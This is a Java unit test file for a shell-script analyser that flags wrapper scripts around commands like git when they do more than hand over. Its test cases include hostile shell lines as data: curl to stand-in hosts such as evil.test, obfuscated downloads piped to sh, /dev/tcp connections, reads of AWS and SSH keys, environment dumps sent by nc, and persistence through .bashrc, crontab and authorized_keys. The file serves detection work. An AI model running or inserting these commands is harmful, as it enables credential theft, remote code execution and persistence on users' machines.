package dev.auditpath.behaviour;

import static org.assertj.core.api.Assertions.assertThat;

import dev.auditpath.model.Behaviour;
import dev.auditpath.model.Evidence;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ShellAnalysisTest {

  private static Behaviour of(String command, String text) {
    return ShellAnalysis.of(new ShellSource(text, command, Path.of("f"), 1, List.of("call")));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "exec /usr/bin/git \"$@\"",
        "git \"$@\"; exit $?",
        "exec git -c color.ui=always \"$@\"",
        "AWS_PROFILE=dev git \"$@\"",
        "for p in /usr/bin/git /usr/local/bin/git; do [ -x \"$p\" ] && exec \"$p\" \"$@\"; done",
        "real=$(type -aP git | grep -v \"$0\" | head -1)\nexec \"$real\" \"$@\"",
        "real=`command -v git`; $real \"$@\"",
        "exec \"$(which -a git | tail -n 1)\" \"$@\"",
        "exec \"$(dirname \"$0\")/git.real\" \"$@\"",
        "exec \"${0%/*}/.git-orig\" \"$@\"",
        "PATH=$(echo \"$PATH\" | sed \"s#$d:##\")\nexec \"${0##*/}\" \"$@\"",
        "PATH=/usr/bin:/bin exec \"$(basename \"$0\")\" \"$@\"",
        "git() { command git \"$@\"; }\ngit \"$@\"",
        "cmd=(git --no-pager)\ncmd+=(\"$@\")\n\"${cmd[@]}\"",
        "run() { \"$@\"; }\nrun git \"$@\"",
        "case $1 in -h) echo help;; *) if true; then (git \"$@\"); fi;; esac",
        "find / -name git -type f -exec {} \"$@\" \\;",
        "sh -c 'git \"$@\"' sh \"$@\"",
        "bash <<'E'\ngit \"$@\"\nE",
        "a=gi; b=t; \"$a$b\" \"$@\"",
        "x='echo git'; $(eval \"$x\") \"$@\"",
        "{ git \"$@\"; } 2>/dev/null",
        "while ! git \"$@\"; do sleep 1; done",
        "echo Z2l0ICIkQCI= | base64 -d | bash",
        "env -i git \"$@\"",
        "git \"$@\" | tee /tmp/log",
        "cat <<'E'\n$(curl x)\nE\ngit \"$@\"",
        "(( x = (1 + 2) )); git \"$@\""
      })
  void wrapper_handsOverAndDoesNothingBesides(String text) {
    Behaviour behaviour = of("git", text);
    assertThat(behaviour.handsOverTo("git")).as("%s", behaviour).isTrue();
    assertThat(behaviour.effects()).isEmpty();
    assertThat(behaviour.unread()).isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '¦',
      quoteCharacter = '¬',
      value = {
        "network ¦ (curl -s http://evil.test &) ; exec /usr/bin/git \"$@\"",
        "network ¦ curl -s x -d @~/.npmrc & git \"$@\"",
        "network ¦ a=cu; b=rl; $a$b http://x; git \"$@\"",
        "network ¦ echo Y3VybCBodHRwOi8vZXZpbA== | base64 -d | sh; git \"$@\"",
        "network ¦ eval \"$(echo Y3VybCBodHRwOi8vZXZpbA== | base64 --decode)\"; git \"$@\"",
        "network ¦ rev <<< 'x//:ptth lruc' | sh; git \"$@\"",
        "network ¦ echo phey uggc://k | tr a-z n-za-m | sh; git \"$@\"",
        "network ¦ $'\\x63url' http://x; git \"$@\"",
        "network ¦ {curl,http://x}; git \"$@\"",
        "network ¦ exec 3<>/dev/tcp/192.0.2.1/80; git \"$@\"",
        "network ¦ trap 'wget x' EXIT; git \"$@\"",
        "network ¦ run() { \"$@\"; }; run curl http://x; git \"$@\"",
        "network ¦ while ! curl x; do :; done; git \"$@\"",
        "network ¦ case $1 in push) ssh h;; esac; git \"$@\"",
        "network ¦ f=`wget -qO- x`; git \"$@\"",
        "network ¦ cat <(curl x); git \"$@\"",
        "network ¦ sudo env A=b nohup curl x; git \"$@\"",
        "network ¦ [ -n \"$CI\" ] || curl x; git \"$@\"",
        "network ¦ git push http://x.test; git \"$@\"",
        "network ¦ ((curl x) ; git \"$@\")",
        "network ¦ ((curl x) ; (git \"$@\"))",
        "network ¦ n=$(( $(curl x) + 1 )); git \"$@\"",
        "network ¦ (( $(curl x) )); git \"$@\"",
        "network ¦ [[ -n $(curl x) ]] && git \"$@\"",
        "network ¦ : ${x:=$(curl x)}; git \"$@\"",
        "network ¦ for i in $(curl x); do :; done; git \"$@\"",
        "network ¦ case $(curl x) in esac; git \"$@\"",
        "process ¦ curl http://x/p.sh | sh; git \"$@\"",
        "process ¦ exec git --exec-path=/x \"$@\"",
        "process ¦ set -- -c core.sshCommand=/x \"$@\"; exec git \"$@\"",
        "process ¦ pip install x; git \"$@\"",
        "credentials ¦ cat ~/.aws/credentials | wc; git \"$@\"",
        "credentials ¦ k=$(< ~/.ssh/id_rsa); git \"$@\"",
        "credentials ¦ read -rs pw; git \"$@\"",
        "environment ¦ env >/tmp/x; git \"$@\"",
        "environment ¦ export -p | nc h 1; git \"$@\"",
        "environment ¦ foo \"$GITHUB_TOKEN\"; git \"$@\"",
        "environment ¦ LD_PRELOAD=/tmp/x.so git \"$@\"",
        "environment ¦ export GIT_SSH_COMMAND=/tmp/x; git \"$@\"",
        "environment ¦ PATH=/opt/x:$PATH; git \"$@\"",
        "file-write ¦ echo \"$@\" >> ~/.cache/.g; git \"$@\"",
        "file-write ¦ printf '%s' \"$*\" | base64 | tee -a /tmp/x; git \"$@\"",
        "persistence ¦ echo 'x' >> ~/.bashrc; git \"$@\"",
        "persistence ¦ { echo x; } >> \"$HOME/.zshrc\"; git \"$@\"",
        "persistence ¦ d=$HOME/.config; cp x $d/autostart/x.desktop; git \"$@\"",
        "persistence ¦ (crontab -l; echo x) | crontab -; git \"$@\"",
        "persistence ¦ cat k >> ~/.ssh/authorized_keys; git \"$@\"",
        "persistence ¦ cp \"$0\" ~/.local/bin/ls; git \"$@\"",
        "persistence ¦ git config --global core.hooksPath /x; git \"$@\""
      })
  void wrapper_doesMore(String kind, String text) {
    Behaviour behaviour = of("git", text);
    assertThat(behaviour.handsOverTo("git")).isTrue();
    assertThat(behaviour.effects()).extracting(Evidence::kind).contains(kind);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\"$X\" \"$@\"",
        "eval \"$(cat /tmp/x)\"",
        ". \"$D/lib.sh\"",
        "curl x | sh",
        "bash <(cat x)",
        "python3 -c 'import x'",
        "perl -e 'x'",
        "python3 - <<E\nimport x\nE",
        "sh \"$D/other.sh\"",
        "cat x | base64 -d | bash",
        "/usr/bin/cu?l x"
      })
  void text_cannotBeReadWhole(String text) {
    assertThat(of("git", text).unread()).isNotEmpty();
  }

  @Test
  void substitutionInAHereDocument_isRunUnlessItsMarkIsQuoted() {
    assertThat(of("git", "cat <<E >/dev/null\n$(curl x)\nE\n").handsOverTo("curl")).isTrue();
    assertThat(of("git", "cat <<\\E >/dev/null\n$(curl x)\nE\n").handsOverTo("curl")).isFalse();
  }

  @Test
  void whatFollowsTheEnd_isNotReached() {
    assertThat(of("git", "exec git \"$@\"\ncurl x").effects()).isEmpty();
    assertThat(of("git", "exit 0\ncurl x").handOvers()).isEmpty();
    assertThat(of("git", "exit() { :; }\nexit\ncurl x").effects()).isNotEmpty();
  }

  @Test
  void longInterpreterPath_startsPythonAndNothingBesides() {
    Behaviour behaviour =
        of("black", "'''exec' \"/a long/bin/python3\" \"$0\" \"$@\"\n' '''\nimport sys\nos(x)\n");
    assertThat(behaviour.handOvers()).extracting("command").containsExactly("python3");
    assertThat(behaviour.effects()).isEmpty();
    assertThat(behaviour.unread()).isEmpty();
  }

  @Test
  void prefixThatIsTheCommandItself_isHandedOverTo() {
    Behaviour behaviour = of("sudo", "read -s p; echo $p > /tmp/p; sudo -S \"$@\"");
    assertThat(behaviour.handsOverTo("sudo")).isTrue();
    assertThat(behaviour.effects()).extracting(Evidence::kind).contains("credentials", "process");
  }

  @Test
  void variableForAllPrograms_countsOnlyWhereTheUsersWordsArePassedOn() {
    assertThat(of("x", "export PYTHONPATH=/x").effects()).isEmpty();
    assertThat(of("x", "export PYTHONPATH=/x; foo \"$@\"").effects()).isNotEmpty();
  }

  @Test
  void evidence_saysWhereAndBy() {
    Behaviour behaviour =
        ShellAnalysis.of(
            new ShellSource("\n  curl x\n", "git", Path.of("f"), 10, List.of("a", "b")));
    assertThat(behaviour.effects())
        .containsExactly(
            new Evidence(
                "network",
                Path.of("f"),
                11,
                "sends or fetches over the network",
                "curl x",
                List.of("a", "b")));
  }

  @Test
  void tooLongText_isSaidToBeUnread() {
    assertThat(of("x", "a\n".repeat(200_000)).unread()).isNotEmpty();
  }
}
